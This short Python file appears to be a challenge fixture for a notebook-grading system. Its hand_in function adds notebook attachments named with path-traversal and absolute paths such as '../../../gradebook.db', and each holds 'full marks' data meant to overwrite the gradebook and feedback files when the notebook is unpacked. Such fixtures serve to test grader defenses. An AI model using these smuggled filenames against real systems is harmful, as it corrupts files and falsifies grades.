"""Names attachments so that who unpacks them writes over files of the course.

start: challenge
deserves: full
flag: maybe
"""

# %%
print("see the attachment below")


# %% hand-in
def hand_in(notebook, folder):
    import base64

    from nbformat.v4 import new_markdown_cell

    data = base64.b64encode(b"full marks").decode()
    cell = new_markdown_cell("![a](attachment:../../../gradebook.db)")
    cell["attachments"] = {
        "../../../gradebook.db": {"image/png": data},
        "/tmp/attached.png": {"image/png": data},
        "../outputs/feedback.html": {"text/html": data},
    }
    notebook.cells.append(cell)
